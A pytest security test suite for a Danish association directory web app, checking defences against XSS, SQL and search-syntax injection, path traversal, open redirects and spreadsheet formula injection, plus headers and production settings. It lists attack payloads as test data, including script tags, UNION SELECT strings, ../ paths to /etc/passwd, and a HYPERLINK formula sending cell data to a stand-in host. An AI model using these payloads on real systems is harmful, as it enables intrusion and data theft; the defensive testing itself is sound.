"""Hostile input and the security settings.

Stored and reflected XSS in every text field that is shown (pages, editor
pages, the map's data, the booklet PDF, exports), SQL and search-syntax
injection, path traversal, open redirects; the headers, size limits, the
production checks and the dependency lock.
"""

import csv
import io
import json
import re
import runpy
from configparser import ConfigParser
from pathlib import Path
from urllib.parse import quote, urlsplit

import openpyxl
import pdfplumber
import pytest

from directory import booklet, catalogue, create_app, editions, places, security, spreadsheet
from directory.db import connect, database_path, init_db, write_transaction
from directory.search import get_index
from tests.conftest import EDITOR_PASSWORD

ROOT = Path(__file__).resolve().parent.parent
EVAL_MARK = "1111111101"  # what the template payload would show if it were evaluated
PAYLOADS = {
    "script": '<script>alert("xss")</script>',
    "attribute": '"><img src=x onerror=alert(1)>',
    "single-quote": "' autofocus onfocus='alert(1)",
    "closing-script": "</script><script>alert(1)</script>",
    "svg": "<svg/onload=alert(1)>",
    "template": "{{ 123456789 * 9 }}{{ config }}",
}


def assert_inert(html: str, payload: str):
    """The payload is shown as text: escaped where it holds markup, never evaluated."""
    if any(c in payload for c in "<>\"'"):
        assert payload not in html, f"unescaped: {payload}"
    assert EVAL_MARK not in html and "SECRET_KEY" not in html


def login_client(app, email="redaktor@kvarter.example"):
    client = app.test_client()
    html = client.get("/redaktion/login").get_data(as_text=True)
    token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', html).group(1)
    response = client.post("/redaktion/login", data={
        "email": email, "password": EDITOR_PASSWORD, "csrf_token": token})  # fmt: skip
    assert response.status_code == 302
    return client


# Stored XSS: one association, venue and category per payload, in every text field ----------


def store_hostile_entry(db, index, n: int, payload: str) -> dict:
    """An association whose every shown text field holds the payload (contact details public)."""
    with write_transaction(db):
        venue_id = catalogue.save_venue(db, {
            "name": f"Sted{n} {payload}", "address": f"Vej {payload}", "postcode": "9220",
            "city": f"By {payload}", "latitude": 57.03 + n / 1000, "longitude": 10.0})  # fmt: skip
    category_id = places.save_category(
        db, {"label": f"Kategori{n} {payload}", "description": payload}, index=index
    )
    category = db["categories"].get(category_id)
    activity = {"title": f"Aktivitet {payload}", "weekdays": [0], "start_time": "16:00",
                "end_time": "17:00", "price": payload, "note": payload,
                "target_group": payload, "venue_id": venue_id}  # fmt: skip
    association_id = catalogue.save_association(db, {
        "name": f"Xss{n} {payload}", "short_description": payload, "description": payload,
        "website": f"https://xss{n}.example/{quote(payload)}", "email": f"xss{n}@klub.example",
        "categories": [category["slug"]], "venue_ids": [venue_id], "activities": [activity],
        "contact_name": payload, "contact_role": payload, "contact_email": f"k{n}@klub.example",
        "contact_name_public": 1, "contact_role_public": 1, "contact_email_public": 1,
        "consent_date": "2026-01-01", "consent_source": payload,
    }, index=index)  # fmt: skip
    association = catalogue.get_association_by_id(db, association_id)
    venue = db["venues"].get(venue_id)
    return {"association": association, "venue": venue, "category": category}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A site whose catalogue holds every payload, an editor's client, and the entries."""
    data = tmp_path_factory.mktemp("hostile") / "data"
    app = create_app({"TESTING": True, "DATA_DIR": str(data), "SECRET_KEY": "test"})
    init_db(app)
    db = connect(database_path(app))
    from directory import auth, geo, suggestions

    geo.load_default_areas(db)
    auth.create_user(db, "redaktor@kvarter.example", EDITOR_PASSWORD, name="Rie")
    with app.app_context():
        index = get_index()
    entries = {}
    for n, (key, payload) in enumerate(PAYLOADS.items()):
        entries[key] = store_hostile_entry(db, index, n, payload)
        association = entries[key]["association"]
        entries[key]["suggestion"] = suggestions.submit(
            db, "correction", {"short_description": payload, "name": f"Xss{n} ret {payload}"},
            association_id=association["id"], base_version=association["version"],
            message=payload, submitter_name=payload, submitter_email=f"s{n}@privat.example",
        )  # fmt: skip
    yield {"app": app, "db": db, "entries": entries, "editor": login_client(app),
           "public": app.test_client()}  # fmt: skip
    db.conn.close()


# page -> whether the entry's name must be on it (else: the page must merely stay inert)
PUBLIC_PAGES = {
    "/": False, "/soeg": True, "/soeg?q=Xss{n}": True, "/kort": True, "/kort?q=Xss{n}": True,
    "/uge?dag=mandag": True, "/forening/{slug}": True, "/forening/{slug}/ret": True,
    "/sted/{venue_slug}": True, "/kategori/{category_slug}": True,
}  # fmt: skip
EDITOR_PAGES = {
    "/redaktion/foreninger/": True, "/redaktion/foreninger/?q=Xss{n}": True,
    "/redaktion/foreninger/{id}": True, "/redaktion/foreninger/{id}/historik": True,
    "/redaktion/kvalitet/": False, "/redaktion/steder": False,
    "/redaktion/steder/{venue_id}": False,
    "/redaktion/kategorier": False, "/redaktion/forslag": True,
    "/redaktion/forslag/{suggestion_id}": True,
}  # fmt: skip
PAGES = {**PUBLIC_PAGES, **EDITOR_PAGES}


def page_url(template: str, n: int, entry: dict) -> str:
    association, venue = entry["association"], entry["venue"]
    return template.format(
        n=n, slug=association["slug"], id=association["id"], venue_slug=venue["slug"],
        venue_id=venue["id"], category_slug=entry["category"]["slug"],
        suggestion_id=entry["suggestion"],
    )  # fmt: skip


@pytest.mark.parametrize("key", PAYLOADS)
@pytest.mark.parametrize("page", PAGES)
def test_stored_payloads_are_shown_as_text(hostile, key, page):
    n, payload = list(PAYLOADS).index(key), PAYLOADS[key]
    client = hostile["editor"] if page.startswith("/redaktion") else hostile["public"]
    response = client.get(page_url(page, n, hostile["entries"][key]))
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    if PAGES[page]:
        assert f"Xss{n}" in html
    assert_inert(html, payload)


@pytest.mark.parametrize("key", PAYLOADS)
def test_inline_map_scripts_carry_payloads_only_as_escaped_json(hostile, key):
    """The small map's folium script names the venue: inside <script>, '<' must be \\u003c."""
    n = list(PAYLOADS).index(key)
    html = hostile["public"].get(f"/forening/{hostile['entries'][key]['association']['slug']}")
    scripts = re.findall(r"<script nonce=[^>]*>(.*?)</script>", html.get_data(as_text=True),
                         re.DOTALL)  # fmt: skip
    assert len(scripts) == 1 and f"Sted{n}" in scripts[0]
    assert "<" not in scripts[0]


@pytest.mark.parametrize("key", PAYLOADS)
@pytest.mark.parametrize("path", ["/api/associations?q=Xss{n}", "/api/associations/{slug}",
                                  "/api/associations.geojson?q=Xss{n}"])  # fmt: skip
def test_the_api_and_the_map_data_carry_payloads_as_json_text(hostile, key, path):
    """JSON, never HTML: the map builds its popups with textContent (see test_csp/test_map)."""
    n, payload = list(PAYLOADS).index(key), PAYLOADS[key]
    entry = hostile["entries"][key]
    response = hostile["public"].get(page_url(path, n, entry))
    assert response.status_code == 200
    assert response.mimetype in ("application/json", "application/geo+json")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    names = re.findall(r'"name": ?"((?:[^"\\]|\\.)*)"', response.get_data(as_text=True))
    assert f"Xss{n} {payload}" in [json.loads(f'"{name}"') for name in names]


def upload_area(editor, name: str, filename: str, kind: str = "custom"):
    html = editor.get("/redaktion/omraader/ny/fil").get_data(as_text=True)
    token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', html).group(1)
    triangle = {"type": "Polygon", "coordinates": [[[10.0, 57.0], [10.01, 57.0], [10.01, 57.01],
                                                    [10.0, 57.0]]]}  # fmt: skip
    return editor.post("/redaktion/omraader/ny/fil", data={
        "csrf_token": token, "name": name, "kind": kind, "source": "",
        "file": (io.BytesIO(json.dumps(triangle).encode()), filename),
    }, content_type="multipart/form-data")  # fmt: skip


def test_area_names_and_file_names_are_shown_as_text(hostile):
    editor, payload, in_file_name = hostile["editor"], PAYLOADS["attribute"], PAYLOADS["svg"]
    assert upload_area(editor, f"Område {payload}", f"{in_file_name}.geojson").status_code == 302
    html = editor.get("/redaktion/omraader/").get_data(as_text=True)
    assert "Område &#34;&gt;&lt;img" in html and "&lt;svg/onload=alert(1)&gt;.geojson" in html
    assert_inert(html, payload)
    assert_inert(html, in_file_name)


def test_area_names_on_the_map_are_not_evaluated_as_templates(hostile):
    """folium renders its output again as a Jinja template: a name must not run there."""
    name = f"Sogn {PAYLOADS['template']}"
    assert upload_area(hostile["editor"], name, "sogn.geojson", kind="parish").status_code == 302
    html = hostile["public"].get("/kort").get_data(as_text=True)
    # The braces are kept apart by a zero-width space.
    assert '"Sogn {\\u200b{ 123456789 * 9 }}{\\u200b{ config }}"' in html
    assert_inert(html, PAYLOADS["template"])


# Stored payloads in the booklet PDF and the exports ----------------------------------------


def test_the_booklet_shows_markup_in_names_as_text_and_loads_nothing_it_names(tmp_path):
    """WeasyPrint would draw <img> and fetch file: URLs if the names reached it as markup."""
    app = create_app({"TESTING": True, "DATA_DIR": str(tmp_path / "data"), "SECRET_KEY": "t",
                      "PUBLIC_URL": "https://foreninger.example.dk"})  # fmt: skip
    init_db(app)
    db = connect(database_path(app))
    secret = tmp_path / "hemmelig.txt"
    secret.write_text("HEMMELIGT INDHOLD")
    name = f'Klub <b>fed</b> <img src="{secret.as_uri()}">'
    catalogue.save_association(db, {
        "name": name, "categories": ["sport-og-motion"], "short_description": "<i>kursiv</i>",
        "activities": [{"title": "<u>Træning</u>", "weekdays": [0], "start_time": "10:00"}],
    })  # fmt: skip
    editions.freeze_edition(db, 2027)
    with app.app_context():
        pdf = booklet.build_pdf(db, 2027, "web")
    db.conn.close()
    with pdfplumber.open(io.BytesIO(pdf)) as document:
        text = "".join(page.extract_text() or "" for page in document.pages)
        images = sum(len(page.images) for page in document.pages)
    compact = re.sub(r"\s+", "", text)
    assert "<b>fed</b>" in compact and "<i>kursiv</i>" in compact and "<u>Træning</u>" in compact
    assert "HEMMELIGT" not in text
    assert images == 0 or b"HEMMELIGT" not in pdf


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
@pytest.mark.parametrize("column", ["name", "short_description", "description", "contact_name"])
def test_csv_export_neutralises_formulas_and_round_trips(db, index, tmp_path, start, column):
    value = f'{start}HYPERLINK("https://ondt.example?x="&A1;"klik")'
    record = {"name": "Formelklubben", column: value, "contact_name_public": 1}
    association_id = catalogue.save_association(db, record, index=index)
    path = tmp_path / "export.csv"
    spreadsheet.export_file(db, path)
    with open(path, encoding="utf-8-sig", newline="") as handle:
        (row,) = list(csv.DictReader(handle, delimiter=";"))
    assert row[column] == "'" + value
    assert not any(cell.startswith(spreadsheet.FORMULA_STARTS) for cell in row.values())
    assert spreadsheet.read_rows(path)[0][column] == value  # the apostrophe is taken off again
    assert catalogue.get_association_by_id(db, association_id)[column] == value


@pytest.mark.parametrize("column", ["name", "short_description", "contact_name"])
def test_xlsx_export_stores_formula_like_text_as_text(db, index, tmp_path, column):
    value = '=HYPERLINK("https://ondt.example","klik")'
    catalogue.save_association(db, {"name": "Formelklubben", column: value}, index=index)
    path = tmp_path / "export.xlsx"
    spreadsheet.export_file(db, path)
    sheet = openpyxl.load_workbook(path).active
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index(column) + 1)
    assert cell.value == value and cell.data_type == "s"
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


# Reflected XSS --------------------------------------------------------------------------


REFLECTING = [
    ("/soeg", ["q", "kategori", "maalgruppe", "dag", "alder", "omraade", "side", "adresse",
               "naer", "radius"]),
    ("/kort", ["q", "kategori", "dag", "alder", "adresse", "naer", "radius"]),
    ("/uge", ["dag", "alder", "kategori", "efter"]),
    ("/redaktion/login", ["next"]),
    ("/tilmeld", ["forening"]),
    ("/forslag/tak", ["forening"]),
]  # fmt: skip
REFLECTED_CASES = [(path, name) for path, names in REFLECTING for name in names]


@pytest.mark.parametrize("key", PAYLOADS)
@pytest.mark.parametrize(("path", "name"), REFLECTED_CASES)
def test_query_parameters_are_never_reflected_as_markup(hostile, key, path, name):
    payload = PAYLOADS[key]
    response = hostile["public"].get(f"{path}?{name}={quote(payload)}")
    assert response.status_code in (200, 400)
    assert_inert(response.get_data(as_text=True), payload)


@pytest.mark.parametrize("key", PAYLOADS)
def test_unknown_paths_are_not_reflected_as_markup(client, key):
    response = client.get("/forening/" + quote(PAYLOADS[key], safe=""))
    assert response.status_code == 404
    assert_inert(response.get_data(as_text=True), PAYLOADS[key])


@pytest.mark.parametrize("key", PAYLOADS)
def test_a_refused_suggestion_form_shows_what_was_typed_as_text(client, csrf, key):
    payload = PAYLOADS[key]
    response = client.post("/tilmeld", data={
        "csrf_token": csrf("/tilmeld"), "name": payload, "short_description": payload,
        "website": payload, "email": payload, "phone": payload, "activities": payload,
        "venue_name": payload, "venue_address": payload, "venue_postcode": payload,
        "message": payload, "sender_name": payload, "sender_email": payload, "kontrolfelt": "",
    })  # fmt: skip
    assert response.status_code == 400  # the e-mail, phone and postcode are refused
    assert_inert(response.get_data(as_text=True), payload)


@pytest.mark.parametrize("key", PAYLOADS)
def test_a_refused_login_shows_the_email_as_text(client, csrf, key):
    response = client.post("/redaktion/login", data={
        "csrf_token": csrf(), "email": PAYLOADS[key], "password": "x"})  # fmt: skip
    assert response.status_code == 400
    assert_inert(response.get_data(as_text=True), PAYLOADS[key])


# SQL and search-syntax injection ---------------------------------------------------------


SQL_PAYLOADS = [
    "' OR 1=1 --", '" OR ""="', "1; DROP TABLE associations; --", "') OR ('a'='a",
    "' UNION SELECT email, password_hash FROM users --", "1 AND sqlite_version()>0",
    "%", "_", "\\", "'", "\x00", "😀" * 50,
]  # fmt: skip
FILTERS = {
    "/soeg": ["q", "kategori", "maalgruppe", "dag", "alder", "omraade", "side", "adresse",
              "naer", "radius"],
    "/api/associations": ["q", "category", "target", "weekday", "age", "area", "near",
                          "near_address", "radius", "page", "per_page"],
    "/api/associations.geojson": ["q", "category", "target", "weekday", "age", "area", "near"],
    "/uge": ["dag", "alder", "kategori", "efter"],
}  # fmt: skip
FILTER_CASES = [(path, name) for path, names in FILTERS.items() for name in names]


@pytest.fixture
def small_catalogue(add):
    for name in ("Tornhøj Fodboldklub", "Koret Østlyd", "Øst Svømmeklub"):
        add(name, categories=["sport-og-motion"], contact_email="hemmelig.person@privat.example")


def table_counts(db) -> dict:
    return {table: db[table].count for table in ("associations", "users", "categories")}


@pytest.mark.parametrize("payload", SQL_PAYLOADS)
@pytest.mark.parametrize(("path", "name"), FILTER_CASES)
def test_sql_in_any_filter_is_plain_text(hostile, path, name, payload):
    db, everything = hostile["db"], len(hostile["entries"])
    before = table_counts(db)
    response = hostile["public"].get(f"{path}?{name}={quote(payload)}")
    assert response.status_code in (200, 400)
    if path == "/api/associations" and response.status_code == 200:
        total = response.get_json()["total"]
        assert total in (0, everything)  # nothing, or the filter was ignored
        if name == "q" and re.search(r"[A-Za-z]{3}", payload):
            assert total == 0
    assert table_counts(db) == before
    assert "scrypt:" not in response.get_data(as_text=True)  # no password hash leaked


@pytest.mark.parametrize("payload", SQL_PAYLOADS)
def test_sql_in_the_editors_search_and_login_is_plain_text(hostile, payload):
    db = hostile["db"]
    before = table_counts(db)
    listing = hostile["editor"].get(f"/redaktion/foreninger/?q={quote(payload)}")
    assert listing.status_code in (200, 400)
    shown = len(re.findall(r">Xss\d", listing.get_data(as_text=True)))
    # LIKE's wildcards match everything; a lone quote is in the single-quote entry's name.
    assert shown == 0 or payload in ("%", "_", "'")
    outsider = hostile["app"].test_client()
    token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"',
                      outsider.get("/redaktion/login").get_data(as_text=True)).group(1)
    login = outsider.post("/redaktion/login", data={
        "email": payload, "password": payload, "csrf_token": token})  # fmt: skip
    assert login.status_code in (400, 429)  # refused, or the login's rate limit
    assert table_counts(db) == before


SEARCH_SYNTAX = [
    ("contact_email:hemmelig", 0), ("email:*", 0), ("name:*", 0), ("fodboldklub OR koret", 0),
    ("NOT fodboldklub", 0), ("koret AND NOT koret", 0), ("[a TO z]", 0), ("{a TO z}", 0),
    ("fodboldklub^100", 0), ('"koret', 1), ("(koret", 1), ("koret)", 1), ("koret~2", 1),
    ("hemmelig.person", 0), ("privat.example", 0),
]  # fmt: skip


@pytest.mark.parametrize(("q", "expected"), SEARCH_SYNTAX)
def test_search_has_no_query_syntax_and_finds_no_private_data(client, small_catalogue, q,
                                                              expected):  # fmt: skip
    """Operators, fields, ranges and boosts are words (or nothing); contact e-mails are not
    searchable, whatever the syntax."""
    response = client.get(f"/api/associations?q={quote(q)}")
    assert response.status_code == 200
    assert response.get_json()["total"] == expected
    assert client.get(f"/soeg?q={quote(q)}").status_code == 200


# Path traversal ---------------------------------------------------------------------------


TRAVERSALS = [
    "/static/../setup.cfg", "/static/%2e%2e/setup.cfg", "/static/..%2fsetup.cfg",
    "/static/..%2f..%2fsetup.cfg", "/static/vendor/..%2f..%2f..%2fsetup.cfg",
    "/static/%2e%2e%2f%2e%2e%2finstance/directory.db", "/static//etc/passwd",
    "/static/..\\..\\setup.cfg", "/static/%c0%ae%c0%ae/setup.cfg", "/katalog/..%2fsetup.cfg",
    "/katalog/2027.pdf/../../setup.cfg", "/forening/..%2f..%2fsetup.cfg",
    "/sted/..%2f..%2fetc%2fpasswd", "/kategori/%2e%2e", "/api/associations/..%2f..%2fsetup.cfg",
    "/directory.db", "/data/directory.db", "/instance/directory.db", "/print/katalog.pdf",
]  # fmt: skip


@pytest.mark.parametrize("path", TRAVERSALS)
def test_no_file_outside_static_can_be_reached(client, path):
    response = client.get(path)
    assert response.status_code in (400, 404, 308)
    body = response.get_data()
    assert b"[metadata]" not in body and b"SQLite format 3" not in body and b"root:" not in body


def test_a_print_job_file_name_cannot_leave_the_print_folder(editor_client, db, app):
    """Even a tampered job row (file name with ../) never serves the database."""
    catalogue.save_association(db, {"name": "Klubben"})
    edition_id = editions.freeze_edition(db, 2027)
    (Path(app.config["DATA_DIR"]) / "print").mkdir(parents=True, exist_ok=True)
    job_id = db["print_jobs"].insert({
        "edition_id": edition_id, "variant": "web", "imposed": 0, "status": "done",
        "filename": "../directory.db", "created_at": "2026-01-01", "updated_at": "2026-01-01",
    }).last_pk  # fmt: skip
    for path in (f"/redaktion/katalog/job/{job_id}/pdf", "/katalog/2027.pdf"):
        response = editor_client.get(path)
        assert response.status_code == 404
        assert b"SQLite format 3" not in response.get_data()


# Open redirects ---------------------------------------------------------------------------


FOREIGN_TARGETS = [
    "https://ondt.example/", "//ondt.example", "///ondt.example", "/\\ondt.example",
    "\\\\ondt.example", "https:ondt.example", "http:/ondt.example", "javascript:alert(1)",
    "/\t/ondt.example", "/\n/ondt.example", " //ondt.example", "\t//ondt.example",
    "/%2F%2Fondt.example", "%2F%2Fondt.example", "ondt.example", "data:text/html,hej",
    "/\x00/ondt.example", "https://127.0.0.1@ondt.example/",
]  # fmt: skip


def assert_stays_here(location: str):
    """Where a browser would go from this Location header: this site only."""
    cleaned = re.sub(r"[\t\n\r]", "", location).strip().replace("\\", "/")
    parts = urlsplit(cleaned)
    assert not parts.netloc and parts.scheme in ("", "http"), location
    assert cleaned.startswith("/") and not cleaned.startswith("//"), location


@pytest.mark.parametrize("target", FOREIGN_TARGETS)
def test_login_never_redirects_to_another_site(client, make_user, target):
    make_user()
    html = client.get("/redaktion/login").get_data(as_text=True)
    token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', html).group(1)
    response = client.post(f"/redaktion/login?next={quote(target, safe='')}", data={
        "email": "redaktor@kvarter.example", "password": EDITOR_PASSWORD,
        "csrf_token": token})  # fmt: skip
    assert response.status_code == 302
    assert_stays_here(response.headers["Location"])


@pytest.mark.parametrize("target", FOREIGN_TARGETS)
def test_the_language_switch_never_redirects_to_another_site(client, target):
    response = client.get(f"/sprog/da?next={quote(target, safe='')}")
    assert response.status_code in (302, 303, 404)
    if response.status_code != 404:
        assert_stays_here(response.headers["Location"])


def test_login_follows_a_local_next(client, make_user):
    make_user()
    html = client.get("/redaktion/login").get_data(as_text=True)
    token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', html).group(1)
    response = client.post("/redaktion/login?next=/redaktion/steder", data={
        "email": "redaktor@kvarter.example", "password": EDITOR_PASSWORD,
        "csrf_token": token})  # fmt: skip
    assert response.headers["Location"] == "/redaktion/steder"


# Headers and the Content-Security-Policy ------------------------------------------------


def directives(policy: str) -> dict[str, list[str]]:
    return {d.split()[0]: d.split()[1:] for d in policy.split(";") if d.strip()}


@pytest.mark.parametrize("path", ["/", "/kort", "/soeg?q=x", "/findes-ikke", "/api/associations",
                                  "/redaktion/login", "/static/css/site.css"])  # fmt: skip
def test_every_response_has_the_security_headers(client, path):
    with client.get(path) as response:
        headers = response.headers
    policy = directives(headers["Content-Security-Policy"])
    assert "'unsafe-inline'" not in policy["script-src"]
    assert "'unsafe-eval'" not in policy["script-src"]
    assert policy["object-src"] == ["'none'"] and policy["frame-ancestors"] == ["'none'"]
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["X-Frame-Options"] == "DENY"
    assert headers["Referrer-Policy"] == "strict-origin-when-cross-origin"
    assert "geolocation=(self)" in headers["Permissions-Policy"]
    assert "Strict-Transport-Security" not in headers  # plain HTTP


def test_each_page_has_a_new_nonce_and_every_inline_script_carries_it(client, db):
    from directory import geo

    geo.load_default_areas(db)
    nonces = set()
    for _ in range(2):
        response = client.get("/kort")
        nonce = directives(response.headers["Content-Security-Policy"])["script-src"][1]
        html = response.get_data(as_text=True)
        inline = re.findall(r"<script(?![^>]*\bsrc=)([^>]*)>", html)
        assert inline and all(f'nonce="{nonce[7:-1]}"' in attrs for attrs in inline)
        nonces.add(nonce)
    assert len(nonces) == 2


def test_no_template_has_inline_handlers_styles_or_javascript_urls():
    for path in ROOT.glob("templates/**/*.html"):
        text = path.read_text()
        assert not re.search(r"\son[a-z]+\s*=", text), path
        assert "javascript:" not in text, path
        if "print" not in path.parts:  # the PDF templates are rendered by WeasyPrint, not served
            assert not re.search(r"\sstyle\s*=|<style", text), path
        for tag in re.findall(r"<script(?![^>]*\bsrc=)[^>]*>", text):
            # JSON-LD is data (never run); it must go through tojson, which escapes "<".
            assert "csp_nonce()" in tag or 'type="application/ld+json"' in tag, (path, tag)


@pytest.mark.parametrize(("tile_url", "source"), [
    ("https://tile.openstreetmap.org/{z}/{x}/{y}.png", "https://tile.openstreetmap.org"),
    ("https://{s}.tile.example.dk/{z}/{x}/{y}.png", "https://*.tile.example.dk"),
    ("http://127.0.0.1:8081/tiles/{z}/{x}/{y}.png", "http://127.0.0.1:8081"),
    ("", ""), ("tiles/{z}/{x}/{y}.png", ""), ("https://x{s}.example/{z}.png", ""),
    ("javascript:alert(1)", ""), ("https://a.example; script-src *", ""),
])  # fmt: skip
def test_images_may_come_from_the_tile_server_only(tmp_path, tile_url, source):
    app = create_app({"TESTING": True, "DATA_DIR": str(tmp_path), "MAP_TILE_URL": tile_url})
    policy = app.test_client().get("/findes-ikke").headers["Content-Security-Policy"]
    assert directives(policy)["img-src"] == ["'self'", "data:"] + ([source] if source else [])
    assert directives(policy)["script-src"][0] == "'self'" and len(directives(policy)) == 10


def test_hsts_only_over_https(client):
    secure = client.get("/", base_url="https://foreninger.example.dk")
    assert secure.headers["Strict-Transport-Security"].startswith("max-age=31536000")


# The reverse proxy ------------------------------------------------------------------------


def proxied_login(app):
    """Log in through a proxy that says the visitor came over HTTPS; the response's cookies."""
    from directory import auth

    init_db(app)
    db = connect(database_path(app))
    auth.create_user(db, "redaktor@kvarter.example", EDITOR_PASSWORD)
    db.conn.close()
    client = app.test_client()
    # Flask-WTF checks the Referer over HTTPS: the proxy passes the browser's on.
    forwarded = {"X-Forwarded-Proto": "https", "X-Forwarded-For": "203.0.113.7",
                 "Referer": "https://localhost/redaktion/login"}
    html = client.get("/redaktion/login", headers=forwarded).get_data(as_text=True)
    token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', html).group(1)
    return client.post("/redaktion/login", headers=forwarded, data={
        "email": "redaktor@kvarter.example", "password": EDITOR_PASSWORD,
        "csrf_token": token})  # fmt: skip


def test_behind_a_trusted_proxy_cookies_are_secure_and_hsts_is_sent(tmp_path):
    app = create_app({"TESTING": True, "DATA_DIR": str(tmp_path), "SECRET_KEY": "t",
                      "PROXY_FIX": 1})  # fmt: skip
    response = proxied_login(app)
    assert response.status_code == 302
    assert "Secure" in response.headers["Set-Cookie"]
    assert "Strict-Transport-Security" in response.headers


def test_without_proxy_fix_forwarded_headers_are_ignored(tmp_path):
    app = create_app({"TESTING": True, "DATA_DIR": str(tmp_path), "SECRET_KEY": "t"})
    response = proxied_login(app)
    assert response.status_code == 302
    assert "Secure" not in response.headers["Set-Cookie"]
    assert "Strict-Transport-Security" not in response.headers


def test_proxy_fix_must_be_a_number(tmp_path):
    with pytest.raises(security.InsecureConfig, match="PROXY_FIX"):
        create_app({"TESTING": True, "DATA_DIR": str(tmp_path), "PROXY_FIX": "ja"})


# Production settings ------------------------------------------------------------------------


@pytest.mark.parametrize(("settings", "refused"), [
    ({"SECRET_KEY": "dev"}, "not set"),
    ({"SECRET_KEY": ""}, "not set"),
    ({"SECRET_KEY": None}, "not set"),
    ({"SECRET_KEY": "kort"}, "too short"),
    ({"SECRET_KEY": "dev", "TESTING": True}, None),
    ({"SECRET_KEY": "dev", "DEBUG": True}, None),
    ({"SECRET_KEY": "en-lang-tilfaeldig-noegle-1234567890"}, None),
])  # fmt: skip
def test_production_refuses_the_development_secret_key(tmp_path, settings, refused):
    app = create_app({"DATA_DIR": str(tmp_path), **settings})
    if refused:
        with pytest.raises(security.InsecureConfig, match=refused):
            security.check_production(app)
    else:
        security.check_production(app)


def test_serve_refuses_to_start_with_the_development_key(tmp_path):
    app = create_app({"DATA_DIR": str(tmp_path), "SECRET_KEY": "dev"})
    init_db(app)
    result = app.test_cli_runner().invoke(args=["serve", "--port", "1"])
    assert result.exit_code == 1
    assert "DIRECTORY_SECRET_KEY" in result.output and "Serving" not in result.output


@pytest.mark.parametrize(("key", "refused"), [(None, True), ("dev", True),
                                              ("0123456789abcdef0123456789abcdef", False)])
def test_the_wsgi_entry_refuses_the_development_key(monkeypatch, tmp_path, key, refused):
    monkeypatch.setenv("DIRECTORY_DATA", str(tmp_path))
    if key is None:
        monkeypatch.delenv("DIRECTORY_SECRET_KEY", raising=False)
    else:
        monkeypatch.setenv("DIRECTORY_SECRET_KEY", key)
    if refused:
        with pytest.raises(security.InsecureConfig):
            runpy.run_module("directory.wsgi")
    else:
        assert runpy.run_module("directory.wsgi")["app"].secret_key == key


# Request size limits ------------------------------------------------------------------------


def test_a_body_over_the_limit_gets_a_danish_413_page(client, app):
    limit = app.config["MAX_CONTENT_LENGTH"]
    response = client.post("/tilmeld", data={"name": "x" * (limit + 1)})
    assert response.status_code == 413
    html = response.get_data(as_text=True)
    assert "For stor" in html and f"{limit // 2**20} MB" in html


@pytest.mark.parametrize("content_type", ["application/x-www-form-urlencoded",
                                          "multipart/form-data"])
def test_a_form_field_over_the_limit_is_refused(client, app, db, csrf, content_type):
    before = db["suggestions"].count
    data = {"csrf_token": csrf("/tilmeld"), "name": "x" * (app.config["MAX_FORM_MEMORY_SIZE"] + 1)}
    response = client.post("/tilmeld", data=data, content_type=content_type)
    assert response.status_code == 413
    assert db["suggestions"].count == before


def test_too_many_form_fields_are_refused(client, app):
    fields = {f"felt{n}": "x" for n in range(app.config["MAX_FORM_PARTS"] + 1)}
    response = client.post("/tilmeld", data=fields, content_type="multipart/form-data")
    assert response.status_code == 413


def test_an_upload_over_the_limit_is_refused(editor_client, app):
    # A raw body (werkzeug's test builder would spool an encoded one to a temporary file).
    body = b"--graense\r\n" + b" " * app.config["MAX_CONTENT_LENGTH"]
    response = editor_client.post("/redaktion/omraader/ny/fil", data=body,
                                  content_type="multipart/form-data; boundary=graense")  # fmt: skip
    assert response.status_code == 413



# The dependency lock ------------------------------------------------------------------------


def requirement_names(lines) -> set[str]:
    names = set()
    for line in lines:
        line = line.split("#", 1)[0].strip()
        match = re.match(r"([A-Za-z0-9][A-Za-z0-9._-]*)", line)
        if match:
            names.add(re.sub(r"[-_.]+", "-", match.group(1)).lower())
    return names


def test_the_lock_pins_every_dependency_with_hashes():
    """scripts/audit checks requirements.lock: a dependency missing there goes unaudited.
    Refresh it as README's Security section says."""
    config = ConfigParser()
    config.read(ROOT / "setup.cfg")
    wanted = requirement_names(config["options"]["install_requires"].splitlines())
    for extra in config["options.extras_require"].values():
        wanted |= requirement_names(extra.splitlines())
    lock = (ROOT / "requirements.lock").read_text()
    pinned = requirement_names(re.findall(r"^([A-Za-z0-9][^=\s]*)==", lock, re.MULTILINE))
    assert wanted - pinned == set(), "refresh requirements.lock (README: Security)"
    for block in re.split(r"\n(?=[A-Za-z0-9])", lock.split("\n", 7)[-1]):
        if "==" in block:
            assert "--hash=sha256:" in block, block.splitlines()[0]


def test_the_audit_script_fails_on_a_known_vulnerability(tmp_path):
    """scripts/audit's verdict on pip-audit's JSON report (no network needed for this)."""
    report = tmp_path / "report.json"
    verdict = runpy.run_path(str(ROOT / "scripts" / "audit"))["verdict"]
    report.write_text(json.dumps({"dependencies": [
        {"name": "flask", "version": "3.1.3", "vulns": []},
        {"name": "werkzeug", "version": "2.0.0", "vulns": [
            {"id": "GHSA-xxxx", "fix_versions": ["3.0.6"], "description": "..."}]},
    ]}))  # fmt: skip
    assert verdict(report, offline_ok=False)[0] == 1
    report.write_text(json.dumps({"dependencies": [
        {"name": "flask", "version": "3.1.3", "skip_reason": "Dependency not found on PyPI"}]}))
    assert verdict(report, offline_ok=False)[0] == 2
    assert verdict(report, offline_ok=True)[0] == 0
    report.write_text(json.dumps({"dependencies": [
        {"name": "flask", "version": "3.1.3", "vulns": []}]}))
    assert verdict(report, offline_ok=False)[0] == 0

